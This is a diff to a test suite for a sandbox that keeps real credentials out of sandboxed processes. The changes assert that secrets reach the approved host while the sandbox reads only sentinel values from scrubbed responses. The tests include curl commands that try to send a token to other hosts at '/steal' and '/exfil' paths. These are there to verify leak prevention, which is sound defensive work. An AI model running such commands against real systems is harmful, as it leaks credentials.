@@ -173,8 +173,13 @@ describe.skipIf(!canRunNamespaces)('credentials that never enter the sandbox', (
         `curl -sS -m 10 -H "Authorization: Bearer $TEST_TOKEN" https://${SECRET_HOST.name}/api`,
       );
       expect(r.exitCode, r.stderr).toBe(0);
-      expect(JSON.parse(r.stdout).authorization).toBe('Bearer real-secret-value-42');
-      expect(r.stdout.includes('real-secret-value-42')).toBe(true); // the server echoed it: only because our test server echoes
+      // The server received the real value...
+      expect(servers.seen.findLast((q) => q.url === '/api')?.headers.authorization).toBe(
+        'Bearer real-secret-value-42',
+      );
+      // ...and echoed it back, but the sandbox only ever reads the sentinel (responses are scrubbed).
+      expect(JSON.parse(r.stdout).authorization).toMatch(/^Bearer airlock_sentinel_test_token_/);
+      expect(r.stdout).not.toContain('real-secret-value-42');
       const leak = await s.exec(
         `curl -sS -m 10 -w '\\n%{http_code}' -H "Authorization: Bearer $TEST_TOKEN" http://${ALLOWED.name}/steal`,
       );
@@ -260,7 +265,8 @@ describe.skipIf(!canRunNamespaces)('secrets in request bodies', () => {
     await withSandbox(spec, async (s) => {
       const ok = await s.exec(`curl -sS -m 10 -d "token=$TEST_TOKEN&x=1" https://${SECRET_HOST.name}/form`);
       expect(ok.exitCode, ok.stderr).toBe(0);
-      expect(JSON.parse(ok.stdout).body).toBe('token=real-secret-value-42&x=1');
+      expect(servers.seen.findLast((q) => q.url === '/form')?.body).toBe('token=real-secret-value-42&x=1');
+      expect(ok.stdout).not.toContain('real-secret-value-42'); // the echo is scrubbed on the way back
       const leak = await s.exec(
         `curl -sS -m 10 -w '\\n%{http_code}' -d "token=$TEST_TOKEN" http://${ALLOWED.name}/exfil`,
       );
